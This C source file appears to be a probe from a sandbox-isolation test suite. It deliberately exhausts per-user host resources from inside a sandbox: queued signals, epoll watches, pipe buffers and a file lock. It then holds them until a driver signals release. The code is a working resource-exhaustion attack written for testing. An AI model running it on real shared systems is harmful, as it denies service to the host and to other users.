/* Takes what the host counts by user rather than by control group, and holds it until the volume
 * says otherwise, so that the driver can see whether the host or another sandbox runs short.
 *
 *     hold signals   queued signals (RLIMIT_SIGPENDING is counted by user)
 *     hold watches   epoll watches (fs.epoll.max_user_watches is counted by user)
 *     hold pipes     pipe buffers (fs.pipe-user-pages-soft is counted by user)
 *     hold locks     exclusive flock(2) on the read-only volume
 */
#include <sys/epoll.h>
#include <sys/file.h>

#include "attack.h"

/* Signals stay queued on a process that is stopped. */
static long take_signals(void) {
  long child = HOST(SYS_clone, SIGCHLD, 0, 0, 0, 0);
  if (child == 0)
    for (;;) HOST(SYS_ppoll, 0, 0, 0, 0, 8);
  HOST(SYS_tgkill, child, child, SIGSTOP);
  long count = 0;
  for (; count < 400000; count++)
    if (HOST(SYS_tgkill, child, child, PV_KICK_SIGNAL) != 0) break;
  return count;
}

static long new_epoll(void) {
  struct pv_request *request = new_request(PV_OP_EPOLL);
  return broker(request);
}

static long take_watches(void) {
  int ends[500][2];
  long count = 0, pipes = 0;
  for (; pipes < 500; pipes++)
    if (HOST(SYS_pipe2, ends[pipes], 0) != 0) break;
  for (int i = 0; i < 400; i++) {
    long epoll = new_epoll();
    if (epoll < 0) break;
    for (long k = 0; k < pipes; k++) {
      struct epoll_event event = {.events = EPOLLIN};
      if (HOST(SYS_epoll_ctl, epoll, EPOLL_CTL_ADD, ends[k][0], &event) == 0) count++;
    }
  }
  return count;
}

static long take_pipes(void) {
  long count = 0;
  int ends[2];
  for (; count < 2000; count++) {
    if (HOST(SYS_pipe2, ends, O_CLOEXEC) != 0) break;
    if (HOST(SYS_fcntl, ends[0], 1031, 1 << 20) < 0) break; /* F_SETPIPE_SZ */
  }
  return count;
}

static long take_locks(void) {
  long descriptor = HOST(SYS_openat, AT_FDCWD, "/ro/file", O_RDONLY);
  return HOST(SYS_flock, descriptor, LOCK_EX | LOCK_NB) == 0;
}

int main(int count, char **values) {
  find_kernel();
  const char *mode = count > 1 ? values[1] : "";
  long taken = 0;
  if (!strcmp(mode, "signals")) taken = take_signals();
  else if (!strcmp(mode, "watches")) taken = take_watches();
  else if (!strcmp(mode, "pipes")) taken = take_pipes();
  else if (!strcmp(mode, "locks")) taken = take_locks();
  else return 2;
  say("note: took %ld", taken);
  if (taken <= 0) return 1;
  close(open("/work/holding", O_CREAT | O_WRONLY, 0644));
  struct timespec pause = {0, 20000000};
  for (int i = 0; i < 1500 && access("/work/release", F_OK) != 0; i++) nanosleep(&pause, NULL);
  say("done");
  return 0;
}
